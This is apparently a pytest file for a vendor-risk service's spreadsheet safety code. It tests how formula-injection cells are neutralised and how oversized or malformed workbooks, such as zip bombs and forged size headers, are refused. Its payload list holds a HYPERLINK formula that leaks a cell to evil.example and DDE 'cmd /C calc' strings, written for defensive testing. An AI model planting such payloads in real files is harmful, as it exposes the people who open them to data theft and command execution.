"""The one formula rule and the one workbook-size rule (vendorrisk.services.spreadsheets)."""

from __future__ import annotations

import dataclasses
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from vendorrisk.services import spreadsheets

#: Every start a spreadsheet may read as a formula, each followed by a real payload.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
TOO_LARGE = "The Excel file is too large to be read."
#: The limits of a reader of small workbooks: 1 MB unzipped, 100 rows, 10 columns, first sheet.
SMALL = spreadsheets.Limits(max_unzipped=1 << 20, max_row=100, max_column=10)


def _limits(**changes) -> spreadsheets.Limits:
    return dataclasses.replace(SMALL, **changes)


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_starting_like_a_formula_is_neutralised_and_restored(text):
    safe = spreadsheets.safe_cell(text)
    assert safe == "'" + text
    assert not safe.startswith(spreadsheets.FORMULA_STARTS)
    assert spreadsheets.restored_cell(safe) == text


@pytest.mark.parametrize("value", ["株式会社みなと", "a=b", "1-2", "'quoted", "", 42, -2, None])
def test_other_values_pass_both_ways_unchanged(value):
    assert spreadsheets.safe_cell(value) == value
    assert spreadsheets.restored_cell(value) == value


def test_a_neutralised_cell_is_text_in_the_written_workbook():
    wb = Workbook()
    wb.active["A1"] = spreadsheets.safe_cell("=1+1")
    buffer = io.BytesIO()
    wb.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s" and cell.value == "'=1+1"


def _bomb(unzipped: int, parts: int = 1) -> bytes:
    """An honest zip archive whose parts hold `unzipped` bytes of zeros in all (a few 100 KB)."""
    buffer = io.BytesIO()
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part in range(parts):
            with archive.open(f"xl/worksheets/sheet{part + 1}.xml", "w") as member:
                left = unzipped // parts
                while left > 0:
                    member.write(chunk[: min(left, len(chunk))])
                    left -= len(chunk)
    return buffer.getvalue()


def _workbook(*cells: tuple[str, str]) -> bytes:
    wb = Workbook()
    for ref, value in cells:
        wb.active[ref] = value
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("parts", [1, 3])
def test_a_decompression_bomb_is_refused_before_it_is_read(parts):
    bomb = _bomb(SMALL.max_unzipped + (1 << 20), parts)
    assert len(bomb) < SMALL.max_unzipped // 100
    with pytest.raises(spreadsheets.TooLarge) as refused:
        spreadsheets.check_workbook(bomb, SMALL)
    assert str(refused.value) == TOO_LARGE


def test_a_workbook_over_the_limit_is_refused_and_one_lying_about_its_sizes_is_unreadable():
    data = _workbook(("A1", "x" * 50_000))
    with pytest.raises(spreadsheets.TooLarge):
        spreadsheets.check_workbook(data, _limits(max_unzipped=40_000))
    # The same file, its sizes declared as zero: what it really holds does not match, refused.
    lying = bytearray(data)
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := lying.find(signature, start)) >= 0:
            lying[start + size_at : start + size_at + 4] = bytes(4)
            start += 4
    with pytest.raises(spreadsheets.Unreadable):
        spreadsheets.check_workbook(bytes(lying), SMALL)


def test_a_workbook_within_the_limits_passes_and_other_files_are_left_to_their_reader():
    data = _workbook(("A1", "name_ja"), ("B2", "株式会社みなと"))
    spreadsheets.check_workbook(data, _limits(max_row=2, max_column=2))
    with pytest.raises(spreadsheets.Unreadable):
        spreadsheets.check_workbook(b"name_ja\r\n", _limits(max_row=2, max_column=2))


@pytest.mark.parametrize(("ref", "axis"), [("A1048576", "row"), ("XFD1", "column")])
def test_a_tiny_workbook_reaching_far_is_refused_by_its_cells(ref, axis):
    data = _workbook(("A1", "name_ja"), (ref, "x"))
    assert len(data) < 10_000
    with pytest.raises(spreadsheets.OutsideSheet) as refused:
        spreadsheets.check_workbook(data, _limits(max_row=1000, max_column=100))
    assert refused.value.axis == axis
